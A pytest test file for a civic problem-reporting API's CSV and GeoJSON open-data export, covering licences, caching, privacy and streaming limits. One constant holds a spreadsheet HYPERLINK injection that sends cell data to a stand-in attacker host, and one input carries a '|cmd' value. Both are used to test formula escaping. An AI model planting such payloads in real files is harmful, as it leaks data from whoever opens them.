"""Open data files contain everything that is published and nothing else, are bounded and safe in spreadsheets."""

from __future__ import annotations

import asyncio
import csv
import io
import sys
from collections.abc import AsyncGenerator, Callable
from datetime import date, datetime
from itertools import pairwise
from typing import Any

import httpx2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.conftest import ONE_DATABASE, Client
from tests.factories import AGENT, EMAIL, PUBLIC_URL, make_site, submit_report
from widget_api import errors
from widget_api.browse import listing
from widget_api.browse import open_data_formats as model
from widget_api.browse import open_data_routes as service
from widget_api.context import Context
from widget_api.demo import samples
from widget_api.open311 import render
from widget_api.problems import lifecycle
from widget_api.problems.model import Change, Contact
from widget_api.sites import changes
from widget_api.sites.model import Site
from widget_api.web import streaming

FORMULA = '=HYPERLINK("http://evil.test/?"&A1;"a")'


async def publish(context: Context, site: Site, **report: Any) -> int:
    receipt = await submit_report(context.database, site, **report)
    await lifecycle.change(context.database, AGENT, site.id, receipt.problem_id, Change(to="accepted"))
    return receipt.number


def api(site: Site, ending: str) -> str:
    return f"/api/v1/sites/{site.key}/problems.{ending}"


def table(answer: httpx2.Response, separator: str = ",") -> list[dict[str, str]]:
    """Parse according to RFC 4180, with a byte order mark."""
    assert answer.status_code == 200, answer.text
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert answer.content.endswith(b"\r\n")
    return list(
        csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=separator, strict=True)
    )


async def test_both_formats_have_published_data_and_licence(client: Client, context: Context, site: Site) -> None:
    number = await publish(context, site, description='Яма «у школы», "глубокая"\nи ещё одна')
    await publish(context, site, lat=None, lng=None, address="за баней")
    await submit_report(context.database, site, description="Ещё на модерации")
    whole = await client.get(api(site, "geojson"))
    assert whole.headers["content-type"] == "application/geo+json"
    assert f'attachment; filename="{site.jurisdiction}-' in whole.headers["content-disposition"]
    data = whole.json()
    assert data["type"] == "FeatureCollection"
    assert data["license"] == "https://creativecommons.org/licenses/by/4.0/"
    assert data["attribution"] == f"{site.name}, {site.agency.name}"
    assert datetime.fromisoformat(data["generated_at"]).tzinfo is not None
    without, first = data["features"]
    assert first["id"] == number
    assert first["geometry"] == {"type": "Point", "coordinates": [38.7783, 55.0794]}
    assert first["properties"]["description"] == 'Яма «у школы», "глубокая"\nи ещё одна'
    assert first["properties"]["url"].endswith(f"/s/{site.key}/problems/{number}")
    assert without["geometry"] is None
    rows = table(await client.get(api(site, "csv")))
    assert tuple(rows[0]) == model.COLUMNS
    stored = [(row["number"], row["lat"], row["status_name"]) for row in rows]
    assert stored == [("2", "", "Принято"), ("1", "55.0794", "Принято")]
    assert rows[1]["description"] == 'Яма «у школы», "глубокая"\nи ещё одна'
    for name in ("created_at", "updated_at"):
        assert rows[0][name].endswith("Z")
        datetime.fromisoformat(rows[0][name])
    assert "Ещё на модерации" not in whole.text
    assert (rows[0]["answered_at"], rows[0]["comments"]) == ("", "0")


async def test_an_empty_site_has_valid_files_and_a_russian_spreadsheet_gets_semicolons(
    client: Client, site: Site, context: Context
) -> None:
    assert table(await client.get(api(site, "csv"))) == []
    assert (await client.get(api(site, "geojson"))).json()["features"] == []
    await publish(context, site)
    (row,) = table(await client.get(api(site, "csv"), params={"separator": "semicolon"}), ";")
    assert (row["lat"], row["lng"]) == ("55,0794", "38,7783")
    wrong = await client.get(api(site, "csv"), params={"separator": "tab"})
    assert (wrong.status_code, wrong.json()["parameter"]) == (400, "separator")


async def test_files_contain_each_problem_once_across_pages(
    client: Client, context: Context, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(service, "PAGE", 3)
    for index in range(7):
        await publish(context, site, description=f"Проблема {index}", category="roads" if index % 2 else "snow")
    for sort, expected in (("new", [7, 6, 5, 4, 3, 2, 1]), ("due", None)):
        rows = table(await client.get(api(site, "csv"), params={"sort": sort}))
        numbers = [int(row["number"]) for row in rows]
        assert sorted(numbers) == [1, 2, 3, 4, 5, 6, 7]
        assert numbers == (expected or numbers)
    found = (await client.get(api(site, "geojson"), params={"category": "snow"})).json()["features"]
    assert {one["properties"]["category"] for one in found} == {"snow"}
    assert len(found) == 4


async def test_unchanged_data_returns_304(client: Client, context: Context, site: Site) -> None:
    for ending in ("csv", "geojson"):
        await publish(context, site)
        first = await client.get(api(site, ending))
        again = await client.get(api(site, ending), headers={"If-None-Match": first.headers["etag"]})
        assert (again.status_code, again.content) == (304, b""), ending
        assert first.headers["etag"].startswith('W/"')
        await publish(context, site)
        later = await client.get(api(site, ending), headers={"If-None-Match": first.headers["etag"]})
        assert later.status_code == 200
        head = await client.head(api(site, ending))
        assert (head.status_code, head.content) == (200, b"")
        assert head.headers["etag"] == later.headers["etag"]


@ONE_DATABASE
async def test_unknown_filters_are_refused_by_name(client: Client, site: Site) -> None:
    for query in ("colour=red", "status=open", "bbox=1,2,3", "since=yesterday", "cursor=x", "limit=5"):
        for ending in ("csv", "geojson"):
            answer = await client.get(f"{api(site, ending)}?{query}")
            assert answer.status_code == 400, ending
            assert answer.headers["content-type"] == "application/problem+json"
            assert answer.json()["parameter"] == query.partition("=")[0]


async def test_the_licence_is_in_files_and_pages(client: Client, context: Context, cli: Callable[..., Any]) -> None:
    site = await make_site(context.database, license="ODbL-1.0")
    odbl = "https://opendatacommons.org/licenses/odbl/1-0/"
    assert (await client.get(api(site, "geojson"))).json()["license"] == odbl
    assert (await client.get(api(site, "csv"))).headers["link"] == f'<{odbl}>; rel="license"'
    cli("site", "set", site.key, "--license", "https://gorod.test/licence")
    assert cli("site", "show", site.key)["license"] == "https://gorod.test/licence"
    assert 'href="https://gorod.test/licence" rel="license"' in (await client.get(f"/s/{site.key}")).text
    with pytest.raises(errors.Invalid):
        await changes.update_site(context.database, site.id, {"license": 'CC> ; rel="x'})


async def test_formulas_written_by_residents_are_escaped(client: Client, context: Context, site: Site) -> None:
    await publish(context, site, description=FORMULA, address="+7 912 000-00-00")
    await publish(context, site, description=f"Яма;{FORMULA}", address="-1+1|cmd")
    for unseen in "\u200b\ufeff":
        await publish(context, site, description=f"{unseen}{FORMULA}", address=f"Дом,{unseen}{FORMULA}")
    *guarded, later, first = table(await client.get(api(site, "csv")))
    assert [row["description"][0] for row in guarded] == ["'", "'"]
    assert [row["address"][4:7].strip("\u200b\ufeff") for row in guarded] == ["'=", "'="]
    assert first["description"].startswith("'=")
    assert first["address"].startswith("'+")
    assert ";'=" in later["description"]
    assert later["address"].startswith("'-")


@given(st.text(st.sampled_from("=+-@\t\r\n;,|\"' aЯ＝\u200b\ufeff\u2060"), max_size=12))
def test_no_cell_begins_like_a_formula_with_any_separator(text: str) -> None:
    """Not even in a program that splits at the other separator, at tabs or at line breaks inside a quoted cell."""
    for separator in (",", ";"):
        line = model.lines([{"description": text, "location": None, "photos": []}], separator).decode()
        for seen in ",;\t|":
            for physical in line.replace("\r", "\n").split("\n"):
                for cell in physical.split(seen):
                    assert cell.strip("\"'")[:0] == ""
                    seen_of_it = cell.lstrip('"\u200b\ufeff\u2060')  # as in a program that strips invisible characters
                    assert not seen_of_it.startswith(tuple("=+-@＝")), (text, line)
        (row,) = csv.reader(io.StringIO(line, newline=""), delimiter=separator, strict=True)
        assert len(row) == len(model.COLUMNS)


async def test_negative_coordinates_stay_numbers(client: Client, context: Context, site: Site) -> None:
    await publish(context, site, lat=-33.9, lng=-70.5)
    (row,) = table(await client.get(api(site, "csv")))
    assert (row["lat"], row["lng"]) == ("-33.9", "-70.5")


async def test_files_contain_no_personal_or_unpublished_data(client: Client, context: Context, site: Site) -> None:
    secret = "КАНАРЕЙКА"
    contact = Contact(email=EMAIL, name=secret, phone="+7 912 345-67-89", publish_name=True)
    await publish(
        context, site, contact=contact, page_url=f"https://gorod.test/{secret}", device=secret, answers={"q": secret}
    )
    await submit_report(context.database, site, description=f"{secret} не опубликовано")
    other = await make_site(context.database)
    await publish(context, other, description=f"{secret} другого сайта")
    for ending in ("csv", "geojson"):
        body = (await client.get(api(site, ending))).text
        for never in (secret, EMAIL, "345-67-89", "203.0.113.7"):
            assert never not in body


@pytest.mark.parametrize("bound", ["MAX_STREAMS", "MAX_STREAMS_PER_ADDRESS", "MAX_STREAMS_PER_NETWORK"])
async def test_concurrent_files_are_limited_in_total_by_address_and_by_network(
    client: Client, context: Context, site: Site, monkeypatch: pytest.MonkeyPatch, bound: str
) -> None:
    await publish(context, site)
    monkeypatch.setattr(streaming, bound, 0)
    refused = await client.get(api(site, "csv"))
    assert refused.status_code == 429
    assert refused.headers["retry-after"] == "10"
    monkeypatch.setattr(streaming, bound, 1)
    for _ in range(3):  # each releases its slot
        assert (await client.get(api(site, "csv"))).status_code == 200
    assert not streaming._streams


@pytest.mark.parametrize("bound", ["MAX_STREAMS_WITH_TOKEN", "MAX_STREAMS_PER_ADDRESS"])
async def test_tokens_have_a_separate_limit(
    client: Client, context: Context, site: Site, monkeypatch: pytest.MonkeyPatch, bound: str
) -> None:
    monkeypatch.setattr(render, "CHUNK_SIZE", 1)  # short answers take no slot
    for _ in range(2):
        await publish(context, site)
    token = await changes.add_token(context.database, site.id, "georeport")
    path = f"/open311/v2/requests.json?jurisdiction_id={site.jurisdiction}"
    monkeypatch.setattr(streaming, "MAX_STREAMS", 0)  # others have taken all shared slots
    assert (await client.get(path)).status_code == 429
    for most, status in ((1, 200), (0, 429)):
        monkeypatch.setattr(streaming, bound, most)
        assert (await client.get(f"{path}&api_key={token}")).status_code == status
    assert not streaming._streams


def export_of(site: Site) -> service.Export:
    return service.Export(
        site=site,
        filters=listing.parse([], site),
        today=date(2026, 11, 25),
        language="ru",
        public_url=PUBLIC_URL,
    )


class Reader:
    """Receives a file as fast as it is made, and records how other requests proceed; it may disconnect early."""

    def __init__(self, leaves_after: int = sys.maxsize) -> None:
        self.pieces = list[bytes]()
        self.turns = list[int]()  # requests of others by the time each chunk arrived
        self._turns = 0
        self._leaves_after = leaves_after
        self._left = asyncio.Event()

    async def ask(self, app: Any, path: str) -> None:
        scope = {"type": "http", "asgi": {"version": "3.0", "spec_version": "2.3"}, "method": "GET", "path": path}
        address = {"client": ("127.0.0.1", 1), "server": ("widget.test", 443), "scheme": "https", "headers": []}
        other = asyncio.create_task(self._others())
        try:
            await app(scope | address | {"query_string": b"", "raw_path": path.encode()}, self._receive, self._send)
        finally:
            other.cancel()

    async def _receive(self) -> dict[str, Any]:
        await self._left.wait()
        return {"type": "http.disconnect"}

    async def _send(self, message: Any) -> None:
        if message.get("body"):
            self.pieces.append(message["body"])
            self.turns.append(self._turns)
        if len(self.pieces) == self._leaves_after:
            self._left.set()

    async def _others(self) -> None:
        while True:
            self._turns += 1
            await asyncio.sleep(0)


@pytest.mark.parametrize("ending", ["csv", "geojson"])
async def test_other_requests_run_between_small_chunks(app: Any, site: Site, settings: Any, ending: str) -> None:
    await samples.add_problems(settings.database_url, site, 500)
    reader = Reader()
    await reader.ask(app, api(site, ending))
    assert all(later > earlier for earlier, later in pairwise(reader.turns))
    assert len(reader.pieces) >= 500 // service.PORTION
    assert max(map(len, reader.pieces)) < 80_000


async def test_between_two_other_requests_only_one_chunk_is_written(
    app: Any, site: Site, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every chunk of every file yields to others, instead of all files in sequence."""
    await samples.add_problems(settings.database_url, site, 200)
    readers = [Reader() for _ in range(streaming.MAX_STREAMS_PER_ADDRESS)]
    turns, made = 0, list[int]()
    lines = model.lines

    def seen(*given: Any) -> bytes:
        made.append(turns)
        return lines(*given)

    async def others() -> None:
        nonlocal turns
        while True:
            turns += 1
            await asyncio.sleep(0)

    monkeypatch.setattr(model, "lines", seen)
    other = asyncio.create_task(others())
    await asyncio.gather(*(reader.ask(app, api(site, "csv")) for reader in readers))
    other.cancel()
    assert len({b"".join(reader.pieces) for reader in readers}) == 1
    assert len(made) == len(set(made)) == len(readers) * 200 // service.PORTION


async def test_files_are_read_in_a_separate_thread(context: Context, site: Site) -> None:
    """Not in the event loop that answers all others."""
    await publish(context, site)
    readers = [await context.database._free.get() for _ in context.database._readers]
    reading = service.csv(context.database, export_of(site), ",")
    piece = asyncio.ensure_future(anext(reading))
    for _ in range(20):
        await asyncio.sleep(0)
    assert not piece.done()
    for reader in readers:
        context.database._free.put_nowait(reader)
    assert (await piece).count(b"\r\n") == 2
    assert isinstance(reading, AsyncGenerator)
    await reading.aclose()


async def test_a_reader_that_stops_is_cut_off(
    app: Any, site: Site, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(streaming, "GRACE_PERIOD", 0.1)
    await samples.add_problems(settings.database_url, site, 2 * service.PORTION)
    reader, send = Reader(), Reader._send

    async def stall(message: Any) -> None:
        await send(reader, message)
        await asyncio.sleep(300 if reader.pieces else 0)

    monkeypatch.setattr(reader, "_send", stall)
    async with asyncio.timeout(60):
        await reader.ask(app, api(site, "csv"))
    assert len(reader.pieces) == 1
    assert not streaming._streams


async def test_nothing_is_read_after_the_client_disconnects(
    app: Any, site: Site, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(service, "PAGE", service.PORTION)
    await samples.add_problems(settings.database_url, site, 25 * service.PORTION)
    reader = Reader(leaves_after=2)
    await reader.ask(app, api(site, "csv"))
    assert 2 <= len(reader.pieces) <= 4
    assert not streaming._streams


async def test_a_stalled_client_holds_no_database_connection(
    context: Context, site: Site, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(service, "PAGE", 50)
    monkeypatch.setattr(service, "PORTION", 50)
    await samples.add_problems(settings.database_url, site, 300)
    readings = [service.csv(context.database, export_of(site), ",") for _ in range(8)]
    for reading in readings:  # more clients than connections, all in the middle of a file
        await anext(reading)
    async with asyncio.timeout(20):
        assert await context.database.row("SELECT COUNT(*) AS many FROM problems WHERE site_id = :id", id=site.id)
        rest = [b"".join([piece async for piece in reading]) for reading in readings]
    assert len(set(rest)) == 1
    assert rest[0].count(b"\r\n") == 250
